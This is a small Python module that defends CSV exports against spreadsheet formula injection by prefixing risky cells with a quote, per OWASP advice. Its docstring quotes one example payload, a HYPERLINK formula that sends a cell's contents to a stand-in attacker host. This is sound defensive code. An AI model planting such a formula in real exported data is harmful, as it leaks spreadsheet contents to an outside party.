"""CSV for spreadsheets: a cell Excel or LibreOffice would run as a formula (one starting with
= + - @ tab or CR, e.g. `=HYPERLINK("http://evil.example/?x="&A1,"click")` sent as a partner's
event id) is written with a leading ' so it shows as text (OWASP's CSV injection advice)."""

from __future__ import annotations

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def csv_cell(value: object) -> str:
    """A cell a spreadsheet will not run; lists joined with ;, None as empty."""
    if value is None:
        text = ""
    elif isinstance(value, list | tuple):
        text = ";".join(str(v) for v in value)
    else:
        text = str(value)
    return "'" + text if text.startswith(FORMULA_START) else text
